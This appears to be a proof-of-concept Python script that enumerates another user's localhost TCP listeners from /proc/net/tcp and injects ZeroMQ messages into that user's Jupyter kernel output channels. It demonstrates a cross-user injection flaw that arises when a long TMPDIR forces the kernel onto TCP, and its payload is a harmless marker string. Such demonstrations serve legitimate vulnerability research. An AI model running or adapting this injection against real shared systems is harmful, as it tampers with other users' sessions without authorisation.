"""Run as uid 65000: push messages into every TCP listener of the TA on 127.0.0.1 (a venv kernel's ipykernel child-output
channel, which it binds on TCP when its IPC path does not fit: a TMPDIR longer than about 60 bytes)."""
import os, sys, time, zmq
TA = 65534
ports = [int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/tcp").read().splitlines()[1:]
         if l.split()[3] == "0A" and int(l.split()[7]) == TA and l.split()[1].startswith("0100007F")]
print("TA listeners:", ports, flush=True)
ctx = zmq.Context()
for port in ports:
    s = ctx.socket(zmq.PUSH); s.linger = 2000
    s.connect(f"tcp://127.0.0.1:{port}")
    for i in range(int(os.environ.get("N", "3"))):
        s.send_multipart([b"pushed by uid %d into the TA's kernel, message %d" % (os.getuid(), i), b"x" * 10])
    s.close()
    print("pushed to", port, flush=True)
ctx.term()
